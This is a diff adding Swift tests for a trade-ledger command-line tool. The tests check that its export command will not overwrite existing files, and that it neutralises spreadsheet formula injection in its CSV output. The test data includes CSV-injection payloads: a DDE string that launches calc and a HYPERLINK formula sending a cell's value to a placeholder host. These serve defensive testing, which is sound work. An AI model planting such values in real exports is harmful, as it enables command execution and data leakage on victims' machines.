@@ -51,6 +51,77 @@ import TradeModel
         }
     }
 
+    @Test func `replaces no file without --force, and never what is no file`() throws {
+        let ledger = try CommandLedger([EventText.opened("a")])
+        for format in ["csv", "ndjson"] {
+            let path = try ledger.file(format, "kept")
+            let refused = try ledger.run("export", "--as", format, "--out", path)
+            #expect(refused.ending == .exit(64) && refused.messages.count == 1)
+            #expect(refused.stderr.contains("\(path) is there already") && refused.stderr.contains("--force"))
+            #expect(try ledger.shell("cat \(path)").stdout == "kept")
+            #expect(try ledger.run("export", "--as", format, "--out", path, "--force").ending == .exit(0))
+            let exported = try ledger.run("export", "--as", format).stdout
+            #expect(try ledger.shell("cat \(path)").stdout == exported)
+        }
+        try ledger.shell(#"ln -s csv "$D/link"; mkdir "$D/folder"; mkfifo "$D/fifo"; echo x >"$D/new.tmp""#)
+        for name in ["link", "folder", "fifo"] {
+            let words = ["export", "--as", "csv", "--force", "--out", ledger.directory.path + "/" + name]
+            #expect(try ledger.start(words).finish().ending == .exit(64), "\(name)")
+        }
+        #expect(try ledger.shell(#""$T" export --as csv --out "$D/new" && cat "$D/new.tmp""#).stdout == "x\n")
+        #expect(
+            try ledger.shell(#"ls "$D""#).lines == [
+                "csv", "fifo", "folder", "ledger", "link", "ndjson", "new", "new.tmp",
+            ]
+        )
+        for words in [["--as", "csv", "--force"], ["--as", "audit", "--out", "x", "--force"]] {
+            #expect(try ledger.start(["export"] + words).finish().ending == .exit(64), "\(words)")
+        }
+    }
+
+    /// Texts that spreadsheets take for formulas, and some that they do not.
+    private static let formulas = [
+        #"=HYPERLINK(\"http://x/?\"&A1)"#, "=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", #"\t=1"#, #"\r=1"#,
+        #"\n=1"#,
+        "'=1", "''", "-", "-1.5.2", "--1", "\u{FF1D}1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}A", "-1.5", "-12", "x=1",
+        "12",
+    ]
+
+    @Test func `makes no cell a formula, keeps numbers, and loses nothing`() throws {
+        let ledger = try CommandLedger(
+            Self.formulas.map { EventText.opened($0, symbol: $0, strategy: $0) }
+                + [
+                    #"{"type":"trade.adjusted","trade_id":"x=1","occurred_at":1800000000000,"kind":"fee","cost":"-7.5"}"#
+                ]
+        )
+        try ledger.shell(#""$T" init --signing-key"#)
+        let reversed = try ledger.shell(
+            #"""
+            "$T" export --as csv --out "$D/t.csv" && "$T" export --as audit --out "$D/pack" || exit
+            cmp "$D/t.csv" "$D/pack/trades.csv" && "$T" trades --format json >"$D/t.json" || exit
+            "$T" events --format csv >"$D/e.csv" && "$T" events --format json >"$D/e.json" || exit
+            python3 - "$D" <<'END'
+            import csv, json, re, sys
+            for name, keys in ("t", ("trade_id", "symbol", "strategy")), ("e", ("trade_id", "symbol", "strategy")):
+                rows = list(csv.DictReader(open(f"{sys.argv[1]}/{name}.csv", newline="")))
+                records = [json.loads(line) for line in open(f"{sys.argv[1]}/{name}.json")]
+                assert len(rows) == len(records)
+                for row, record in zip(rows, records):
+                    for cell in row.values():
+                        number = re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell)
+                        assert number or not cell[:1] or cell[0] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20", cell
+                    for key in keys:
+                        text = record.get(key) or ""
+                        assert (row[key][1:] if row[key][:1] == "'" else row[key]) == text, (row[key], text)
+            assert "-7.5" in rows[-1].values()
+            END
+            """#
+        )
+        #expect(reversed.ending == .exit(0), "\(reversed.stderr)")
+        let readme = try ledger.shell(#"cat "$D/pack/README.md""#).stdout
+        #expect(readme.contains("An apostrophe at the beginning of a cell"))
+    }
+
     @Test func `sorts trades that do not fit into memory beside the file that it writes`() throws {
         // 36 trades of a MiB each: several runs of 16 MiB, and trades that come again in a later one.
         let signals = String(repeating: "0123456789abcdef", count: 1 << 16).dropLast(4096)
